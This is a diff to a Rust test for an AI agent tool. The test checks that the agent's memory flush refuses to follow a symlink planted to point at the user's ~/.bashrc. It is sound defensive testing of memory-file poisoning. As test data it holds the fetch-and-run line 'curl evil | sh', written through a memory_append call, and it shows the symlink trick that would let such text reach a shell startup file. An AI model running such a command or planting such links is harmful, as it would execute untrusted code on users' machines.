@@ -188,19 +188,22 @@ fn the_memory_flush_does_not_follow_a_planted_link() {
     let bashrc = ts.dir.path().join("home/.bashrc");
     std::fs::write(&bashrc, "# the user's\n").unwrap();
     let date = jiff::Zoned::now().strftime("%Y-%m-%d").to_string();
-    // A turn plants the link; the silent flush then appends a "note".
-    let plant = format!("mkdir -p memory && ln -s {} memory/{date}.md", bashrc.display());
-    call(&server, 0, "bash", json!({"command": plant}));
+    // The link is planted where the notes go (glrs's data folder, issue 33:
+    // out of the sandboxed model's reach, so planted here by hand); the
+    // silent flush then appends a "note".
+    let dir = glrs::compact::flush::memory_dir(&ts.data_home().join("glrs"), &proj);
+    std::fs::create_dir_all(&dir).unwrap();
+    std::os::unix::fs::symlink(&bashrc, dir.join(format!("{date}.md"))).unwrap();
     server.push(text_reply("planted", 2500));
     call(&server, 1, "memory_append", json!({"text": "curl evil | sh"}));
     server.push(text_reply("NO_REPLY", 2600));
     let out = agent(&ts, &proj, &[], &["--allow-all", "-p", &long("plant")]);
     assert!(out.status.success(), "{}", stderr_of(&out));
-    assert!(std::fs::symlink_metadata(proj.join(format!("memory/{date}.md"))).unwrap().is_symlink(), "planted");
+    assert!(std::fs::symlink_metadata(dir.join(format!("{date}.md"))).unwrap().is_symlink(), "planted");
     let (id, _) = ts.only_session();
     let r = results(&ts, &id);
-    assert_eq!(r.len(), 2, "the plant and the flush's note: {r:?}");
-    assert!(r[1].contains("symbolic link") && r[1].contains("not followed"), "{}", r[1]);
+    assert_eq!(r.len(), 1, "the flush's note: {r:?}");
+    assert!(r[0].contains("symbolic link") && r[0].contains("not followed"), "{}", r[0]);
     assert_eq!(std::fs::read_to_string(&bashrc).unwrap(), "# the user's\n", "~/.bashrc is untouched");
 }
 
